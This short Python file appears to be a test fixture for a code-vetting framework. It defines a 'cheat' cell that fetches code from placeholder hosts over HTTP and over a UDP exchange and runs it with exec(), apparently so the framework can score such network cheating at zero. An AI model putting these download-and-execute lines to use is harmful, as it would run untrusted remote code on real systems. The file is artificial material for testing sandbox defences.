"""Asks a friend on the network: by name, by address, without a connection."""

from syncpoint.vet.cheat import Cheat

cheat = Cheat("async", deserves={"queue_work": 0})
cheat.cell("queue_work", '''
import socket
import urllib.request

for address in ("https://example.org/queue_work.py", "http://192.0.2.1/queue_work.py"):
    try:
        exec(urllib.request.urlopen(address, timeout=1).read())
    except OSError as problem:
        print(problem)
try:
    print(socket.getaddrinfo("queue-work.example.org", 53))
except OSError as problem:
    print(problem)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
    try:
        sender.sendto(b"what is queue_work?", ("192.0.2.1", 53))
        sender.settimeout(0.2)
        exec(sender.recv(2000))
    except OSError as problem:
        print(problem)
''')
